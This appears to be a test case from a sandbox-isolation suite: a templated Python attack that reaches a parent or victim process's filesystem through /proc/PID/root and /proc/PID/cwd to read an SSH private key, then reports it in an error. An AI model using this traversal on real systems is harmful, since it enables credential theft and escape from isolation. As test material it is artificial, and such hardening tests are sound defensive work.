# attack: reads the SSH key through /proc/PID/root and /proc/PID/cwd
# layer: files
# where: construct
# status: ok
# score: same
import torch

os = torch.os


def attack():
    for process in ("self", "thread-self", str(os.getppid()), "{PARENT_PID}", "{VICTIM_PID}"):
        for way in ("/root", "/cwd/../../../../../../../../.."):
            try:
                with open("/proc/" + process + way + "{CANARY}/home/.ssh/id_ed25519") as file:
                    stolen = file.read()
            except OSError:
                continue
            raise RuntimeError("ESCAPED " + stolen)
